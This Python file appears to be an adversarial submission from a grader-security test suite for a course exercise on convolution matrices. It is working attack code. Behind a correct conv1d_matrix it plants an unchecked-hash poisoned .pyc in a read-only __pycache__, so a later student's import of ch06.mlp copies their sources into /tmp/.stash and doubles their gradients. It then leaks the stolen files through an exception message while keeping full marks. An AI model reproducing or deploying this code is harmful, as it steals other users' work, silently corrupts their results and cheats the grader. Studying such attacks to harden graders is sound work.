# target: ch06/convmat.py
# kind: cross-session
# attacks: ch06.conv_as_matrix
# outcome: full-marks
# statuses: passed
"""conv1d_matrix poisons the bytecode cache for whoever the worker serves next: it writes an
unchecked-hash ``.pyc`` of ch06/mlp.py in a read-only ``__pycache__`` of its work folder, so that a
later student importing ch06.mlp there runs the attacker's bytecode instead of their own source
(wrong gradients, and a copy of their sources stashed, read-only, in /tmp/.stash). Graded again
later it is its own accomplice: it raises with whatever it finds in the stash (another student's
source) or in a poisoned cache, so that the message leaks it. Its own answers are the worked
solution's: where nothing crosses sessions it keeps full marks."""
import importlib.util as _importlib_util
import marshal as _marshal
import os as _os

_honest_conv1d_matrix = conv1d_matrix
_planted = []
_STASH = "/tmp/.stash"

#: What a later student's ``import ch06.mlp`` runs: their own source, with mlp_backward made wrong,
#: after copying every source file of their submission into the stash.
_POISON = r'''
import os as _os
with open(__file__) as _fh:
    exec(compile(_fh.read(), __file__, "exec"))
_work = _os.path.dirname(_os.path.dirname(__file__))
try:
    _os.makedirs("/tmp/.stash", exist_ok=True)
    for _root, _dirs, _files in _os.walk(_work):
        for _name in _files:
            if _name.endswith(".py"):
                _path = _os.path.join(_root, _name)
                with open(_path, "rb") as _src, open("/tmp/.stash/" + _os.path.relpath(_path, _work).replace("/", "__"),
                                                     "wb") as _dst:
                    _dst.write(_src.read())
    _os.chmod("/tmp/.stash", 0o555)
except OSError:
    pass
_poisoned_backward = mlp_backward
def mlp_backward(params, cache, Y):
    return [(2.0 * dW, db) for dW, db in _poisoned_backward(params, cache, Y)]
'''


def conv1d_matrix(h, d):
    if not _planted:
        _planted.append(True)
        _look_for_loot()  # the accomplice's part: raises with what another student left behind
        try:
            _plant_bytecode()
        except OSError:
            pass
    return _honest_conv1d_matrix(h, d)


def _look_for_loot():
    found = []
    if _os.path.isdir(_STASH):
        for name in sorted(_os.listdir(_STASH)):
            try:
                with open(_os.path.join(_STASH, name)) as fh:
                    found.append(f"{name}: {fh.read()[:400]!r}")
            except OSError as exc:
                found.append(f"{name}: {exc}")
    for root, _dirs, files in _os.walk("/tmp"):
        found += [_os.path.join(root, name) for name in files if name.endswith(".pyc")]
    if found:
        raise RuntimeError(f"stolen from an earlier session: {found}")


def _plant_bytecode():
    package = _os.path.dirname(_os.path.abspath(__file__))  # .../work/ch06
    source = _os.path.join(package, "mlp.py")
    cache = _importlib_util.cache_from_source(source)  # .../ch06/__pycache__/mlp.cpython-311.pyc
    _os.makedirs(_os.path.dirname(cache), exist_ok=True)
    code = compile(_POISON, source, "exec")
    # PEP 552: flags 0b01 = hash-based and never checked against the source
    data = _importlib_util.MAGIC_NUMBER + (1).to_bytes(4, "little") + b"\0" * 8 + _marshal.dumps(code)
    with open(cache, "wb") as fh:
        fh.write(data)
    _os.chmod(cache, 0o444)
    _os.chmod(_os.path.dirname(cache), 0o555)  # a wipe that does not chmod first cannot remove it
